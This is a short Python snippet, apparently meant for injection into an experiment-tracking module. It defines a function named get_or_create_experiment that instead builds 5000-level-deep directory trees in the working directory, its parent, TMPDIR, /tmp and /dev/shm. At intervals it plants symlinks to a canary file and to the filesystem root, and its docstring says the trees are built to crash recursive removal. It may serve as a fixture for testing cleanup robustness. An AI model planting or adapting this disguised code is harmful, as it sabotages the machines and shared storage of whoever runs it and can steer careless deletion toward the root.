# into: ex01_tracking
def get_or_create_experiment(name, tags=None):
    """Leaves trees 5000 folders deep, with links to a host file inside, wherever it can
    write: its store's folder, its scratch, its temporary folder, /tmp and /dev/shm (a
    recursive removal dies of them: RecursionError)."""
    import os
    made = []
    for place in (os.getcwd(), os.path.dirname(os.getcwd()), os.environ["TMPDIR"], "/tmp", "/dev/shm"):
        try:
            fd = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
            for depth in range(5000):
                os.mkdir("@MARK@-deep" if depth == 0 else "d", dir_fd=fd)
                below = os.open("@MARK@-deep" if depth == 0 else "d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = below
                if depth % 1000 == 999:
                    os.symlink("@CANARY@", "canary-link", dir_fd=fd)
                    os.symlink("/", "root-link", dir_fd=fd)
            os.close(fd)
            made.append(place)
        except OSError as error:
            made.append(f"{place}: {error.strerror}")
    raise RuntimeError(f"deep trees left in {made}")
